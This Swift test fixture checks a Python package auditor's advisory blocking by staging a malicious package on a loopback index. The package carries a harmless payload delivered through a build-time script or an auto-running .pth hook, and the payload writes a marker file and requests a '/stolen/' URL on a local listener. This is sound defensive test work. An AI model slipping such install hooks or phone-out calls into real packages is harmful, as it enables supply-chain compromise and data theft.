import OperatingSystem
import StructuredText
import Testing

/// A place for one run of a scenario of `Documentation/Replays.md`: a project, an index on loopback whose package `bad` has a
/// payload, and a listener. The payload does no harm: it makes a file and asks the listener for a page.
///
/// An attack passes its test when the program ends as expected, names the rule, and neither mark nor connection is there. The
/// control is the same without the attack or without the rule: both must be there, or the test proves nothing.
final class ReplayPlace: Sendable {
    let place: Workplace
    let index: LoopbackIndex
    private let listener: LoopbackIndex
    private let marks: String

    /// - Parameters:
    ///   - isBuilt: whether `bad` is a source distribution whose payload runs while it is built, which is as early as
    ///     locking; otherwise it is a wheel with a hook that runs whenever a Python of the environment starts.
    ///   - status: the project's status as the index's page has it, as JSON.
    init(isBuilt: Bool = false, status: String? = nil, variables: [String: String] = [:]) throws {
        var known = ["PIP_RETRIES": "0"]
        for (name, value) in variables { known[name] = value }
        place = try Workplace(variables: known)
        marks = Paths.join(place.path, "marks")
        try Files.makeDirectories(marks)
        listener = try LoopbackIndex("[packages.nothing.versions.\"1.0\"]\n")
        let payload = """
            import urllib.request
            open("\(marks)/ran", "w").close()
            try: urllib.request.urlopen("\(listener.url)/stolen/", timeout=5)
            except Exception: pass
            """
        let bad =
            isBuilt
            ? "wheel = false\nstatic_metadata = false\nbuild_code = '''\n\(payload)\n'''\n"
            : "sdist = false\nfiles = { \"payload.py\" = '''\n\(payload)\n''', \"hook.pth\" = \"import payload\\n\" }\n"
        index = try LoopbackIndex(
            """
            [packages.good.versions."1.0"]
            requires = ["bad"]
            [packages.bad.versions."1.0"]
            \(bad)
            """, "--max-age", "0")
        if let status { try index.declare("bad", status) }
        try place.write(index.pipfile("[packages]\ngood = \"*\"\n"), to: "Pipfile")
    }

    // MARK: - The payload

    /// Whether the payload ran or got through to its listener.
    var hasRun: Bool { Files.exists(marks + "/ran") || !listener.requests.isEmpty }

    /// Whether it did both, as it does when nothing is in its way.
    var hasRunFully: Bool { Files.exists(marks + "/ran") && !listener.requests.isEmpty }

    /// Starts a Python of the environment, which sets off the hook; nothing where there is none.
    func start() throws {
        guard try place.environment() != nil else { return }
        _ = try place.pipit("run", "python", "-c", "pass")
    }

    // MARK: - Advisories

    /// Makes the advisories of this machine consist of these records, OSV's JSON.
    func publish(_ records: String...) throws { try publish(records) }

    func publish(_ records: [String]) throws {
        let folder = try writeRecords(records)
        let run = try place.pipit("db", "import", folder, "--as-of", "now", "--allow-older")
        #expect(run.status == 0, "\(run)")
    }

    /// Writes the records for a service or for an import, and nothing else.
    @discardableResult
    func writeRecords(_ records: [String]) throws -> String {
        let folder = Paths.join(place.path, "records")
        if Files.exists(folder) { try Files.removeTree(folder) }
        try Files.makeDirectories(folder)
        for (number, record) in records.enumerated() {
            try Files.write(Array(record.utf8), to: Paths.join(folder, "\(number).json"))
        }
        return folder
    }

    /// A record about `bad`; about all its versions where none are listed.
    static func record(
        _ id: String, aliases: [String] = [], versions: [String] = [], events: String? = nil, package: String = "bad",
        more: String = ""
    ) -> String {
        let names = aliases.map { "\"\($0)\"" }.joined(separator: ", ")
        let listed = versions.map { "\"\($0)\"" }.joined(separator: ", ")
        let line = events ?? #"{"introduced": "0"}"#
        let ranges =
            versions.isEmpty || events != nil ? #""ranges": [{"type": "ECOSYSTEM", "events": [\#(line)]}], "# : ""
        return """
            {"schema_version": "1.7.5", "id": "\(id)", "modified": "2026-01-01T00:00:00Z", \(more)"aliases": [\(names)],
             "affected": [{"package": {"ecosystem": "PyPI", "name": "\(package)"}, \(ranges)"versions": [\(listed)]}]}
            """
    }

    var store: String { Paths.join(place.variables["HOME"] ?? "", ".local/share/pipit/advisories") }

    /// A directory with the project's lock as if it came from the default index, whose releases may be told to a service.
    func lockOfNoSource() throws -> String {
        let directory = Paths.join(place.path, "asked")
        try Files.makeDirectories(directory)
        guard case .object(var lock) = try place.lock(), case .object(var meta)? = lock["_meta"] else {
            throw LoopbackIndex.Silent(talk: "there is no lock")
        }
        meta["sources"] = .array([])
        lock["_meta"] = .object(meta)
        for category in ["default", "develop"] {
            guard case .object(var packages)? = lock[category] else { continue }
            for name in packages.members.map(\.key) {
                guard case .object(var entry)? = packages[name] else { continue }
                entry["index"] = nil
                packages[name] = .object(entry)
            }
            lock[category] = .object(packages)
        }
        try Files.write(JSONValue.object(lock).bytes(.compact), to: Paths.join(directory, "Pipfile.lock"))
        try Files.write(Array("[packages]\ngood = \"*\"\n".utf8), to: Paths.join(directory, "Pipfile"))
        return directory
    }

    // MARK: - Deploying

    /// What a careful pipeline does: it audits, and only if that ends with 0 it installs and starts.
    ///
    /// - Parameter directory: Where it audits; nil is the project itself.
    func deploy(
        _ words: [String] = [], variables: [String: String] = [:], auditing directory: String? = nil
    ) throws -> Verdict {
        let run = try place.pipit(["audit", "--output", "json"] + words, variables: variables, in: directory)
        if run.status == 0 {
            let sync = try place.pipit("sync")
            #expect(sync.status == 0, "\(sync)")
            try start()
        }
        return Verdict(run: run, report: try? JSONValue(parsing: Array(run.output.utf8)))
    }

    /// A run of `audit --output json` and what it says.
    struct Verdict: CustomTestStringConvertible {
        var run: Run
        var report: JSONValue?

        var status: Int32 { run.status }
        var word: String? { report?["verdict"]?.string }
        /// Ids of the findings; `?` stands behind what is only possibly affected.
        var ids: [String] {
            (report?["findings"]?.array ?? []).compactMap { finding in
                finding["id"]?.string.map { $0 + (finding["certainty"]?.string == "affected" ? "" : "?") }
            }.sorted()
        }
        var testDescription: String { run.testDescription }
    }
}
